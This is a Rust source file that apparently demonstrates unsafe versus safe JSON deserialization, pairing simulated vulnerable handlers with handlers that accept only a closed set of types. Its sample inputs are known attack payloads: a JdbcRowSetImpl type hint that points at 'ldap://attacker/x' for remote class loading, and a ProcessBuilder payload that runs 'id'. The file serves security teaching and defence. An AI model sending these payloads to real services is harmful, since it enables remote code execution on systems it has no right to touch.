// Deserialization scenarios
//
// The unsafe variants accept open-ended JSON and let type hints or a caller
// supplied class name pick what gets built. The safe variants only ever
// produce a closed, compile-time set of types.

use super::{Invocation, Outcome, Scenario};
use crate::error::{Error, Result};
use crate::models::Category;
use serde::{Deserialize, Serialize};
use serde_json::Value;

/// Keys polymorphic deserializers treat as a class selector
const TYPE_HINT_KEYS: &[&str] = &["@type", "@class", "$type", "class", "className"];

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct SafeObject {
    pub safe_data: String,
    pub number: i32,
}

/// Every payload type the hardened endpoint can build
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "type", content = "payload", rename_all = "snake_case", deny_unknown_fields)]
pub enum AllowedPayload {
    Note { text: String },
    Counter { value: i64 },
}

pub fn scenarios() -> Vec<Scenario> {
    vec![
        Scenario::new(
            "deserialization/polymorphic",
            Category::Deserialization,
            "Deserialize a request body into an object",
            unsafe_polymorphic,
            safe_polymorphic,
        )
        .with_sample_input(r#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker/x"}"#),
        Scenario::new(
            "deserialization/dynamic-type",
            Category::Deserialization,
            "Build the type named in the request",
            unsafe_dynamic_type,
            safe_dynamic_type,
        )
        .with_sample_input(r#"{"type":"java.lang.ProcessBuilder","payload":{"command":["id"]}}"#),
    ]
}

/// Every type-hint value found anywhere in the document
fn collect_type_hints(value: &Value, hints: &mut Vec<String>) {
    match value {
        Value::Object(map) => {
            for (key, val) in map {
                if TYPE_HINT_KEYS.contains(&key.as_str()) {
                    if let Some(s) = val.as_str() {
                        hints.push(s.to_string());
                    }
                }
                collect_type_hints(val, hints);
            }
        }
        Value::Array(items) => {
            for item in items {
                collect_type_hints(item, hints);
            }
        }
        _ => {}
    }
}

fn unsafe_polymorphic(inv: &Invocation<'_>) -> Result<Outcome> {
    let value: Value = serde_json::from_str(inv.raw)?;
    let mut hints = Vec::new();
    collect_type_hints(&value, &mut hints);
    let side_effect = if hints.is_empty() {
        "untyped object accepted as-is".to_string()
    } else {
        format!("type hints would instantiate: {}", hints.join(", "))
    };
    Ok(Outcome::new(value.to_string(), side_effect))
}

fn safe_polymorphic(inv: &Invocation<'_>) -> Result<Outcome> {
    let object: SafeObject =
        serde_json::from_str(inv.raw).map_err(|e| Error::InvalidInput(e.to_string()))?;
    Ok(Outcome::new(
        serde_json::to_string(&object)?,
        "bound to SafeObject, unknown fields refused",
    ))
}

fn unsafe_dynamic_type(inv: &Invocation<'_>) -> Result<Outcome> {
    let value: Value = serde_json::from_str(inv.raw)?;
    let class_name = value
        .get("type")
        .and_then(Value::as_str)
        .ok_or_else(|| Error::InvalidInput("missing \"type\"".to_string()))?;
    let payload = value.get("payload").cloned().unwrap_or(Value::Null);
    Ok(Outcome::new(
        payload.to_string(),
        format!("would load class '{}' by name and populate it from payload", class_name),
    ))
}

fn safe_dynamic_type(inv: &Invocation<'_>) -> Result<Outcome> {
    let payload: AllowedPayload =
        serde_json::from_str(inv.raw).map_err(|e| Error::InvalidInput(e.to_string()))?;
    let kind = match &payload {
        AllowedPayload::Note { .. } => "note",
        AllowedPayload::Counter { .. } => "counter",
    };
    Ok(Outcome::new(
        serde_json::to_string(&payload)?,
        format!("built '{}' from the closed payload set", kind),
    ))
}
